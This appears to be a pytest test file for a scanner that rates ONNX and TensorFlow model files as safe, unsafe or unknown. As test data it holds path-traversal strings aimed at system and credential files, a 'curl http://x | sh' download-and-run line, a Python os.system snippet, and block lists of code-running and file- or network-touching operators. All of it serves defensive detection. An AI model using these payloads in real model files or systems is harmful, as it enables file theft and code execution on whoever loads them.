"""ONNX and TensorFlow graphs that leave the model's folder, call Python or bring foreign operators."""

from __future__ import annotations

import json

import onnx
import pytest
from onnx import TensorProto, helper

from redan.kernels.artifacts import Reading, inspect_bytes


def read(data: bytes, name: str = "model.bin") -> Reading:
    return inspect_bytes(data, name)


def value(name):
    return helper.make_tensor_value_info(name, TensorProto.FLOAT, [1])


def external(**entries):
    tensor = TensorProto(name="w", data_type=1, dims=[1], data_location=TensorProto.EXTERNAL)
    for key, text in entries.items():
        tensor.external_data.add(key=key, value=text)
    return tensor


def model(*nodes, initializers=(), functions=()):
    nodes = list(nodes) or [helper.make_node("Identity", ["x"], ["y"])]
    graph = helper.make_graph(nodes, "g", [value("x")], [value("y")], list(initializers))
    return helper.make_model(graph, functions=list(functions))


OUTSIDE = [
    "../w", "../../etc/passwd", "/etc/passwd", "C:\\w", "..\\..\\w", "a/../../w", "./../w", "file:///etc/passwd",
    "\\\\host\\share\\w", "w\0/../x", "//host/w", "a\\..\\..\\b", "/proc/self/environ", "sub/../../x", "http://x/w",
]  # fmt: skip


def carriers(location):
    """One model for every place where a tensor may stand."""
    tensor = external(location=location)
    constant = helper.make_node("Constant", [], ["z"], value=tensor)
    branch = helper.make_graph([constant], "b", [], [value("z")])
    function = helper.make_function("own", "F", ["a"], ["z"], [constant], [helper.make_opsetid("", 18)])
    deep = branch
    for _ in range(5):
        deep = helper.make_graph([helper.make_node("Loop", ["x"], ["z"], body=deep)], "d", [], [value("z")])
    yield model(initializers=[tensor])
    yield model(constant)
    yield model(helper.make_node("ConstantOfShape", ["x"], ["y"], value=tensor))
    yield model(helper.make_node("If", ["x"], ["y"], then_branch=branch, else_branch=branch))
    yield model(helper.make_node("Scan", ["x"], ["y"], body=branch, num_scan_inputs=1))
    yield model(helper.make_node("Loop", ["x"], ["y"], body=deep))
    yield model(helper.make_node("F", ["x"], ["y"], domain="own"), functions=[function])
    twice = external(location="weights.bin")
    twice.external_data.add(key="location", value=location)
    yield model(initializers=[twice])
    sparse = model()
    item = sparse.graph.sparse_initializer.add(dims=[1])
    item.values.CopyFrom(tensor)
    yield sparse
    training = model()
    training.training_info.add().algorithm.CopyFrom(branch)
    yield training


@pytest.mark.parametrize("location", OUTSIDE)
def test_external_data_outside_the_folder_is_unsafe_wherever_it_stands(location):
    assert [read(found.SerializeToString()).verdict for found in carriers(location)] == ["unsafe"] * 10


def test_external_data_beside_the_model_is_safe_and_with_strange_bounds_unknown():
    assert {read(found.SerializeToString()).verdict for found in carriers("weights.bin")} == {"safe"}
    for bounds in ({"offset": "-1"}, {"length": "x"}, {"offset": "0", "length": "-5"}):
        assert read(model(initializers=[external(location="w", **bounds)]).SerializeToString()).verdict == "unknown"


@pytest.mark.parametrize(
    ("operator", "domain"),
    [("PyOp", "ai.onnx.contrib"), ("PythonOp", "com.microsoft"), ("PythonOpGrad", "com.microsoft.training"),
     ("PyCustomOp", "x"), ("PythonScript", ""), ("PyFunc", ""), ("PyFuncOp", "x"), ("PyTorchCustomOp", "y"),
     ("System", "os"), ("Exec", "evil"), ("Popen", "p"), ("RunCommand", "x"), ("Eval", "z"), ("Shell", "q")],
)  # fmt: skip
def test_operators_that_run_code_are_unsafe(operator, domain):
    assert read(model(helper.make_node(operator, ["x"], ["y"], domain=domain)).SerializeToString()).verdict == "unsafe"


@pytest.mark.parametrize(
    "attribute", ["/tmp/evil.so", "evil.dll", "__import__('os').system('true')", "curl http://x | sh"]
)
def test_custom_operator_with_the_arguments_of_an_attack_is_unsafe(attribute):
    node = helper.make_node("Foo", ["x"], ["y"], domain="custom", value=attribute)
    assert read(model(node).SerializeToString()).verdict == "unsafe"


@pytest.mark.parametrize(("operator", "domain"), [("ATen", "aten"), ("Foo", "acme"), ("EPContext", "com.microsoft")])
def test_operators_of_foreign_libraries_are_unknown(operator, domain):
    assert read(model(helper.make_node(operator, ["x"], ["y"], domain=domain)).SerializeToString()).verdict == "unknown"


def test_compiled_context_outside_the_folder_is_unsafe():
    node = helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", ep_cache_context="../../x.bin")
    assert read(model(node).SerializeToString()).verdict == "unsafe"


def varint(number: int) -> bytes:
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def field(number: int, content: bytes | str | int) -> bytes:
    if isinstance(content, int):
        return varint(number << 3) + varint(content)
    raw = content.encode() if isinstance(content, str) else content
    return varint(number << 3 | 2) + varint(len(raw)) + raw


def node(operator: str, *attributes: bytes) -> bytes:
    return field(1, "n") + field(2, operator) + b"".join(field(5, one) for one in attributes)


def graph(*nodes: bytes, library: bytes = b"") -> bytes:
    return b"".join(field(1, one) for one in nodes) + (field(2, library) if library else b"")


def function_library(operator: str) -> bytes:
    return field(1, field(1, field(1, "f")) + field(3, node(operator)))


def saved_model(inside: bytes, *more: bytes) -> bytes:
    return field(1, 1) + field(2, field(2, inside) + b"".join(more))


PLAIN = (node("Placeholder"), node("MatMul"), node("SaveV2"), node("RestoreV2"), node("Softmax"))

TF_UNSAFE = [
    "PyFunc",
    "PyFuncStateless",
    "EagerPyFunc",
    "NumpyFunction",
    "WriteFile",
    "ReadFile",
    "MatchingFiles",
    "WholeFileReader",
    "WholeFileReaderV2",
    "TextLineReader",
    "TextLineReaderV2",
    "TFRecordReader",
    "FixedLengthRecordReaderV2",
    "TextLineDataset",
    "TFRecordDataset",
    "TFRecordDatasetV2",
    "FixedLengthRecordDataset",
    "SqlDataset",
    "CSVDataset",
    "CSVDatasetV2",
    "LMDBDataset",
    "SaveDataset",
    "SaveDatasetV2",
    "LoadDataset",
    "DebugIdentity",
    "DebugIdentityV2",
    "DebugNumericSummaryV2",
    "RpcClient",
    "RpcCall",
    "RpcServer",
    "RpcServerStart",
    "TryRpc",
    "RemoteCall",
    "DataServiceDataset",
    "DataServiceDatasetV2",
    "RegisterDataServiceDataset",
    "BigQueryReader",
    "GcsConfigureCredentials",
    "CreateSummaryFileWriter",
    "CreateSummaryDbWriter",
    "ImportEvent",
    "MergeV2Checkpoints",
    "LoadAndRemapMatrix",
    "GenerateVocabRemapping",
    "DecodeProtoV2",
    "InitializeTRTResource",
    "LoadLibrary",
    "ShellCommandOp",
    "IO>KafkaDataset",
]


@pytest.mark.parametrize("operator", TF_UNSAFE)
def test_tensorflow_operators_beyond_the_graph_are_unsafe_wherever_they_stand(operator):
    inside = graph(*PLAIN, node(operator))
    hidden = graph(*PLAIN, library=function_library(operator))
    for data in (saved_model(inside), saved_model(hidden), inside, hidden, field(1, field(2, "1")) + field(2, inside)):
        assert read(data).verdict == "unsafe"


def test_plain_tensorflow_graphs_are_safe():
    inside = graph(*PLAIN, library=function_library("Relu"))
    assert (read(saved_model(inside)).verdict, read(saved_model(inside)).format) == ("safe", "saved-model")
    assert (read(inside).verdict, read(inside).format) == ("safe", "tf-graph")
    meta = field(1, field(2, "1")) + field(2, inside)
    assert (read(meta).verdict, read(meta).format) == ("safe", "tf-meta-graph")


def test_operator_of_a_library_is_unknown_and_asset_outside_the_folder_unsafe():
    assert read(saved_model(graph(*PLAIN, node("Addons>Gelu")))).verdict == "unknown"
    assert read(saved_model(graph(*PLAIN), field(6, field(2, "../../etc/passwd")))).verdict == "unsafe"
    assert read(saved_model(graph(*PLAIN), field(6, field(2, "vocab.txt")))).verdict == "safe"


LAMBDA = {"class_name": "Lambda", "config": {"function": ["4wEAAAAAAAAAAAAAAAAAAAAAAA", None, None]}}


def test_code_in_the_description_of_a_keras_object_is_unsafe():
    text = json.dumps({"class_name": "Sequential", "config": {"layers": [LAMBDA]}})
    assert (
        read(
            saved_model(graph(*PLAIN), field(7, field(1, field(4, field(1, "_tf_keras_layer") + field(3, text)))))
        ).verdict
        == "unsafe"
    )
    metadata = field(1, field(2, 1) + field(3, "root") + field(4, "_tf_keras_layer") + field(5, text))
    assert (read(metadata).verdict, read(metadata).format) == ("unsafe", "keras-metadata")
    harmless = field(1, field(2, 1) + field(3, "root") + field(4, "_tf_keras_layer") + field(5, '{"name": "dense"}'))
    assert (read(harmless).verdict, read(harmless).format) == ("safe", "keras-metadata")


@pytest.mark.parametrize("cut", [1, 7, 30])
def test_truncated_graph_message_is_not_safe(cut):
    assert read(saved_model(graph(*PLAIN))[:-cut]).verdict != "safe"


def test_model_of_the_onnx_checker_is_safe():
    onnx.checker.check_model(model())
    assert read(model().SerializeToString()).verdict == "safe"
